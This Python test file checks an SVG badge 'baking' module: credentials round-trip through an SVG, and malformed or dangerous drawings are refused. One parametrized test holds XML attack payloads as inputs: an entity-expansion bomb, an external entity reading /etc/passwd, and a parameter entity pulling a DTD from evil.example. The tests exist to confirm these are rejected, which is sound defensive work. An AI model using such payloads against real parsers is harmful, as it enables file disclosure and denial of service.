"""A credential in a drawing comes out again; drawings that are dangerous to read are refused."""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lti_tool.credentials.baking import bake_svg, is_svg, unbake_svg
from lti_tool.credentials.json_text import dump
from lti_tool.domain.errors import BadgeToolError

SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2" aria-label="a > b">'
    '<path d="M0 0h2"/></svg>'
)
OB3 = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'

# XML has no place for control characters and lone surrogates; JSON text escapes the former and refuses the latter.
texts = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"))


def refusal(svg: str) -> str:
    with pytest.raises(BadgeToolError) as caught:
        unbake_svg(svg.encode())
    return caught.value.code


@given(texts)
def test_what_is_baked_comes_out_again(text: str) -> None:
    payload = dump({"name": text, "end": "]]>"})
    baked = bake_svg(SVG, payload)
    assert ElementTree.fromstring(baked).find("{http://www.w3.org/2000/svg}path") is not None
    assert unbake_svg(baked.encode()).replace("\\u003e", ">") == payload


def test_a_jwt_stands_in_the_attribute() -> None:
    baked = bake_svg(SVG, "aaa.bbb.ccc")
    assert 'verify="aaa.bbb.ccc"' in baked
    assert unbake_svg(baked.encode()) == "aaa.bbb.ccc"


@pytest.mark.parametrize(
    ("inside", "code"),
    [
        ("", "image.no_credential"),
        (f"<openbadges:credential {OB3}/>", "image.no_credential"),
        (f"<openbadges:credential {OB3}>1</openbadges:credential>" * 2, "image.two_credentials"),
        ("<g>" * 250 + "</g>" * 250, "image.not_svg"),
        ("<g/>" * 30_000, "image.not_svg"),
        ("&unknown;", "image.not_svg"),
        ("<g>", "image.not_svg"),
    ],
)
def test_refused(inside: str, code: str) -> None:
    assert refusal(f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>') == code


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
    ],
)
def test_entities_are_refused(declared: str) -> None:
    assert refusal(f'{declared}<svg xmlns="http://www.w3.org/2000/svg"><g>x</g></svg>') == "image.not_svg"


def test_an_svg_is_known_by_its_beginning() -> None:
    assert is_svg(b"\xef\xbb\xbf  <svg/>")
    assert is_svg(b"<?xml version='1.0'?><svg/>")
    assert not is_svg(b'{"a": "<svg/>"}')
